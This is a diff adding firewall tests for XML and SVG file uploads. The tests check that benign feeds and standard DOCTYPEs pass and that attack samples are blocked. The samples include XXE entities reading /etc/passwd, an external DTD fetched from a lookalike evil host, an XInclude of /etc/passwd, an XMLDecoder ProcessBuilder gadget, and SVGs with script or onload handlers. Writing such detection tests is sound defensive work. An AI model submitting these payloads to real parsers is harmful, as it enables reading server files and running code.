@@ -144,3 +144,53 @@ test("commands as a whole value, programs that are fetched and run, and substitu
   ])
     assert.ok(!isStopped(text), text);
 });
+
+const uploaded = (name: string, type: string, content: string): boolean =>
+  managedMatches(MANAGED_RULESET_ID, {
+    headers: { "Content-Type": ["multipart/form-data; boundary=X"] },
+    body: `--X\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--X--\r\n`,
+  }).some(({ action }) => action === "block");
+
+test("an XML document that people pick is a file: texts in it are not judged, and what a parser would fetch or build is", () => {
+  const text = "<![CDATA[<script>var a = 1</script> 1' or '1'='1]]>";
+  for (const [name, type] of pairs(["posts.xml", "feed.RSS", "a b.kml"], ["|text/xml", "|application/rss+xml"]).map((pair) =>
+    pair.split("|"),
+  ))
+    assert.ok(!uploaded(name!, type!, `<?xml version="1.0"?><rss><item>${text}</item></rss>`), name);
+  for (const name of ["blob", "", "posts"]) assert.ok(uploaded(name, "text/xml", `<rss><item>${text}</item></rss>`), "as scripts send it");
+  const types = [
+    '<!DOCTYPE web-app PUBLIC "-//Sun//DTD Web Application 2.3//EN" "http://java.sun.com/dtd/web-app_2_3.dtd">',
+    '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd">',
+    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://a.example/">]>',
+  ];
+  for (const type of types) assert.ok(!uploaded("a.xml", "text/xml", `${type}<a/>`), type);
+  const attacks = [
+    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://203.0.113.7/a.dtd"><a/>',
+    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://java.sun.com.evil.example/a.dtd"><a/>',
+    ...types.map((type) => `${type}<!ENTITY x SYSTEM "file:///etc/passwd"><a/>`),
+    '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>',
+    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>',
+  ];
+  assert.deepEqual(
+    attacks.filter((attack) => !uploaded("a.xml", "text/xml", attack)),
+    [],
+  );
+});
+
+test("a picture with a script is blocked, and a page with pictures and scripts is a file", () => {
+  const begins = ["", '<?xml version="1.0"?>\n', "<!-- made by a program -->\n", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">'];
+  const runs = [
+    '<svg onload="a()"/>',
+    "<svg><script>a()</script></svg>",
+    '<svg><a href="javascript:a()">x</a></svg>',
+    "<svg><foreignObject><iframe/></foreignObject></svg>",
+  ];
+  assert.deepEqual(
+    pairs(begins, runs).filter((text) => !uploaded("a.svg", "image/svg+xml", text)),
+    [],
+  );
+  for (const text of pairs(begins, ["<svg><style>a{}</style><path d='M0'/></svg>", '<svg><text>on = "a"; the script</text></svg>']))
+    assert.ok(!uploaded("a.svg", "image/svg+xml", text), text);
+  assert.ok(!uploaded("a.html", "text/html", "<!doctype html><html><body onload='a()'><svg><script>a()</script></svg></body></html>"));
+});
